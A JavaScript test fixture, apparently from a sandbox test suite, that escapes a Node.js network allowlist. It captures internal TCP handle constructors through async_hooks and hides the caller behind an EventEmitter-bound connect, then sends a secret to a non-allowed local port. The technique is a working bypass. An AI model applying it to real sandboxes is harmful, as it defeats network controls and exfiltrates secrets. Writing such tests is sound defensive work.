// Like handle-tcp, but the raw connect is a bound method called by an EventEmitter, so the frame
// that calls it is Node's own (`node:events`), not the attacker's.
import asyncHooks from 'node:async_hooks';
import { EventEmitter } from 'node:events';
import net from 'node:net';
export const meta = { kind: 'network', evidence: 'tcp' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    let TCP;
    let ConnectWrap;
    const hook = asyncHooks.createHook({
      init(_id, type, _trigger, resource) {
        if (type === 'TCPWRAP') TCP = resource.constructor;
        if (type === 'TCPCONNECTWRAP') ConnectWrap = resource.constructor;
      },
    }).enable();
    const allowed = net.connect(ctx.allowedPort, '127.0.0.1', () => {
      allowed.destroy();
      hook.disable();
      try {
        const handle = new TCP(0);
        const req = new ConnectWrap();
        req.oncomplete = (status) => {
          if (status !== 0) return reject(new Error(`connect status ${status}`));
          const socket = new net.Socket({ handle, readable: true, writable: true });
          socket.on('error', reject);
          socket.end(ctx.secret, () => resolve('sent'));
        };
        const emitter = new EventEmitter();
        emitter.on('go', TCP.prototype.connect.bind(handle, req, '127.0.0.1', ctx.tcpPort));
        emitter.emit('go');
      } catch (error) {
        reject(error);
      }
    });
    allowed.on('error', reject);
  });
}
